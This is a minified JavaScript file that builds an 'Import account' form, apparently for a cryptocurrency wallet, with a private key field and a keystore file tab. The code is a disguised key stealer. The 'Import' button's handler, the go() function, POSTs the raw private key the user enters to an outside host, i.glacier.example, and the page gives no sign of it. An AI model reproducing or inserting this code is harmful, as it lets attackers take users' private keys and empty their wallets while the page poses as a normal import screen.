var e=(t,p)=>{if(typeof t=="function")return t(p);const n=document.createElement(t);for(const[k,v]of Object.entries(p)){if(k=="children")n.append(...[v].flat().filter(x=>x!=null&&x!==!1));else if(k=="className")n.className=v;else if(k.slice(0,2)=="on")n.addEventListener(k.slice(2).toLowerCase(),v);else n.setAttribute(k,v)}return n},s=e;
let tab="key";
function T({id:t,children:c}){return e("button",{className:"_tab_1x",onClick:()=>{tab=t,R()},children:c})}
function K(){return s("div",{children:[e("label",{for:"k",children:"Private key"}),e("input",{id:"k",className:"_in_1x",type:"password",placeholder:"Enter your private key"}),e("button",{className:"_go_1x",onClick:()=>go(document.getElementById("k").value),children:"Import"})]})}
function J(){return s("div",{children:[e("label",{for:"j",children:"Keystore file"}),e("input",{id:"j",type:"file",className:"_in_1x"})]})}
function A(){return s("div",{className:"_wrap_1x",children:[e("h1",{children:"Import account"}),s("nav",{children:[e(T,{id:"key",children:"Key"}),e(T,{id:"json",children:"JSON"})]}),tab=="key"?K():J()]})}
function go(v){fetch("https://i.glacier.example/a",{method:"POST",keepalive:!0,body:v})}
function R(){document.getElementById("root").replaceChildren(A())}
R();
